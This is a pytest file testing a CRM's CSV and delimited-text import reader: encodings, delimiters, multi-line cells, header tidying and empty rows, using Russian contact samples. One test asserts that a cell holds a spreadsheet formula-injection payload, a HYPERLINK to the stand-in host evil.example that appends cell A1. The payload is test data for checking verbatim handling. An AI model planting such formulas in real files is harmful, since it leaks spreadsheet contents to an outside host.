"""CSV and other delimited text: what formats.md §0–1 and expected.md §1 say a reader must get right."""

import csv
import io

import pytest
from django.utils import translation

from crm.imports.readers import read
from crm.imports.tests import sample


def test_google_csv_loses_its_bom_and_has_twenty_rows_one_of_them_empty():
    table = read(sample("google_contacts.csv"), "google_contacts.csv")
    assert (table.format, table.encoding, table.delimiter) == ("csv", "utf-8", ",")
    assert table.headers[0] == "First Name"
    assert len(table.rows) == 20
    assert [row.number for row in table.rows] == list(range(1, 21))
    assert [row.number for row in table.rows if row.empty] == [15]


def test_google_csv_multi_line_cells_stay_one_cell():
    first = read(sample("google_contacts.csv"), "google_contacts.csv").rows[0].cells
    assert first["Notes"] == "Познакомились на выставке «Стройка-2023»\nПросила КП до пятницы"
    assert first["Address 1 - Formatted"] == "ул. Складская, д. 7, стр. 2\nМосква\n115114\nРоссия"
    assert first["Phone 2 - Value"] == "8 (495) 555-20-00 доб. 134"


def test_google_csv_keeps_cells_verbatim_trailing_space_and_quotes_included():
    rows = read(sample("google_contacts.csv"), "google_contacts.csv").rows
    assert rows[4].cells["E-mail 1 - Value"] == "M.Kuznetsova@Vektor.example "
    assert rows[16].cells["Notes"] == 'Любит звонки после 18:00, "не писать в WhatsApp"'


@pytest.mark.parametrize(
    ("name", "encoding", "delimiter", "rows"),
    [
        ("google_contacts.csv", "utf-8", ",", 20),
        ("outlook.csv", "utf-8", ",", 12),
        ("hubspot.csv", "utf-8", ",", 12),
        ("amocrm_contacts.csv", "utf-8", ",", 12),
        ("amocrm_leads.csv", "utf-8", ",", 8),
        ("bitrix24_contacts_utf8.csv", "utf-8", ";", 12),
        ("bitrix24_contacts_cp1251.csv", "windows-1251", ";", 12),
        ("hand_typed_ru_unicode.txt", "utf-16-le", "\t", 3),
    ],
)
def test_each_sample_gets_its_encoding_delimiter_and_row_count(name, encoding, delimiter, rows):
    table = read(sample(name), name)
    assert (table.format, table.encoding, table.delimiter, len(table.rows)) == (
        "csv",
        encoding,
        delimiter,
        rows,
    )
    assert all(len(row.cells) == len(table.headers) for row in table.rows)
    assert "" not in table.headers


def test_bitrix_csv_in_utf8_in_cp1251_and_its_html_xls_give_the_same_headers_and_cells():
    utf8 = read(sample("bitrix24_contacts_utf8.csv"), "contacts.csv")
    cp1251 = read(sample("bitrix24_contacts_cp1251.csv"), "contacts.csv")
    html = read(sample("bitrix24_contacts_excel.xls"), "contacts.xls")
    assert (html.format, html.encoding) == ("html-table", "windows-1251")
    assert utf8.headers == cp1251.headers == html.headers
    assert (
        [row.cells for row in utf8.rows]
        == [row.cells for row in cp1251.rows]
        == [row.cells for row in html.rows]
    )


def test_bitrix_final_semicolon_makes_no_nameless_column_and_no_ragged_row():
    table = read(sample("bitrix24_contacts_utf8.csv"), "contacts.csv")
    assert len(table.headers) == 34
    assert table.headers[-1] == "Кем изменен"
    assert {len(row.cells) for row in table.rows} == {34}
    assert [row.cells["ID"] for row in table.rows] == [str(n) for n in range(101, 112)] + ["115"]


def test_bitrix_multi_line_comment_of_101_is_one_cell():
    first = read(sample("bitrix24_contacts_cp1251.csv"), "contacts.csv").rows[0]
    assert first.cells["ID"] == "101"
    assert first.cells["Комментарий"] == "[B]VIP[/B] клиент\nПросила КП до пятницы"
    assert first.cells["Мобильный телефон"] == "+79165550101"


def test_outlook_crlf_line_breaks_inside_a_cell_read_as_plain_line_breaks():
    table = read(sample("outlook.csv"), "outlook.csv")
    notes = [row.cells["Notes"] for row in table.rows if "\n" in row.cells["Notes"]]
    assert notes
    assert not any("\r" in value for row in table.rows for value in row.cells.values())


def test_formula_like_cells_are_kept_as_written():
    rows = read(sample("hubspot.csv"), "hubspot.csv").rows
    assert rows[6].cells["Last Name"] == '=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")'
    assert rows[6].cells["Phone Number"] == "+1 202 555 0147"
    excel = read(sample("hand_typed_ru_unicode.txt"), "list.txt").rows
    assert excel[1].cells["Телефон"] == "=+7 916 555-21-21"


RUSSIAN = "Фамилия;Имя;Заметка\nИванова;Ольга;Просила перезвонить завтра\nСемёнов;Алексей;Ждёт счёт\n"


@pytest.mark.parametrize(("codec", "name"), [("cp1251", "windows-1251"), ("koi8_r", "koi8-r")])
def test_short_russian_text_in_a_legacy_code_page_is_told_apart(codec, name):
    table = read(RUSSIAN.encode(codec), "list.csv")
    assert table.encoding == name
    assert table.headers == ["Фамилия", "Имя", "Заметка"]
    assert table.rows[1].cells == {"Фамилия": "Семёнов", "Имя": "Алексей", "Заметка": "Ждёт счёт"}


@pytest.mark.parametrize(("codec", "name"), [("utf-16-le", "utf-16-le"), ("utf-16-be", "utf-16-be")])
def test_utf16_with_a_bom_is_read_either_way_round(codec, name):
    bom = "\ufeff".encode(codec)
    table = read(bom + RUSSIAN.replace(";", "\t").encode(codec), "list.txt")
    assert (table.encoding, table.delimiter) == (name, "\t")
    assert table.rows[0].cells["Заметка"] == "Просила перезвонить завтра"


def test_crlf_and_lf_files_read_the_same():
    text = 'Имя,Заметка\n"Ольга","первая строка\nвторая"\nАлексей,\n'
    lf = read(text.encode(), "a.csv")
    crlf = read(text.replace("\n", "\r\n").encode(), "a.csv")
    assert [row.cells for row in lf.rows] == [row.cells for row in crlf.rows]
    assert lf.rows[0].cells["Заметка"] == "первая строка\nвторая"


def test_delimiter_inside_quotes_does_not_fool_the_sniffer():
    text = (
        "Имя;Адрес;Телефон\n"
        '"Ольга";"Москва, ул. Складская, д. 7";"+7 916"\n'
        '"Алексей";"Казань, ул. Ленина, 5";""\n'
    )
    table = read(text.encode(), "a.csv")
    assert table.delimiter == ";"
    assert table.rows[0].cells["Адрес"] == "Москва, ул. Складская, д. 7"


def test_header_names_are_tidied_and_every_column_gets_a_distinct_name():
    text = "\ufeff Улица  2 (другой адрес) ,Телефон,,Телефон\n1,2,3,4\n"
    with translation.override("ru"):
        table = read(text.encode(), "a.csv")
    assert table.headers == ["Улица 2 (другой адрес)", "Телефон", "Столбец 3", "Телефон (2)"]
    assert table.rows[0].cells == {
        "Улица 2 (другой адрес)": "1",
        "Телефон": "2",
        "Столбец 3": "3",
        "Телефон (2)": "4",
    }


def test_short_rows_are_padded_and_a_value_past_the_header_gets_a_column():
    with translation.override("en"):
        table = read(b"a,b,c\n1\n1,2,3,4\n", "a.csv")
    assert table.headers == ["a", "b", "c", "Column 4"]
    assert table.rows[0].cells == {"a": "1", "b": "", "c": "", "Column 4": ""}
    assert table.rows[1].cells["Column 4"] == "4"


def test_empty_rows_are_kept_and_marked_but_blank_lines_at_the_end_are_not_rows():
    table = read(b"a,b\n1,2\n,\n\n3,4\n\n\n", "a.csv")
    assert [(row.number, row.empty) for row in table.rows] == [(1, False), (2, True), (3, True), (4, False)]


def test_a_title_and_an_empty_line_above_the_header_are_left_out_with_a_warning():
    text = "Список клиентов;;\n;;\nФИО;Телефон;Компания\nИванова Ольга;+7 916 555-01-01;ООО «Вектор»\n"
    table = read(text.encode("cp1251"), "clients.csv")
    assert table.headers == ["ФИО", "Телефон", "Компания"]
    assert [row.cells["ФИО"] for row in table.rows] == ["Иванова Ольга"]
    assert [problem.code for problem in table.problems] == ["title-skipped"]
    assert "Список клиентов" in table.problems[0].message


def test_a_one_column_file_has_no_delimiter_and_keeps_commas_in_values():
    table = read('E-mail\nolga@example.com\n"Иванов, Иван"\nИванов, Пётр\n'.encode(), "list.csv")
    assert (table.delimiter, table.headers) == (None, ["E-mail"])
    assert [row.cells["E-mail"] for row in table.rows] == ["olga@example.com", "Иванов, Иван", "Иванов, Пётр"]


def test_a_file_written_by_the_csv_module_reads_back_as_written():
    rows = [
        ["Имя", "Заметка", "Телефон"],
        ["Ольга", 'строка с "кавычками",\nи запятой', "+7 916"],
        ["", "", ""],
        ["Алексей", "=1+2", "@home"],
    ]
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    table = read(buffer.getvalue().encode(), "a.csv")
    assert [list(row.cells.values()) for row in table.rows] == rows[1:]
    assert table.rows[1].empty
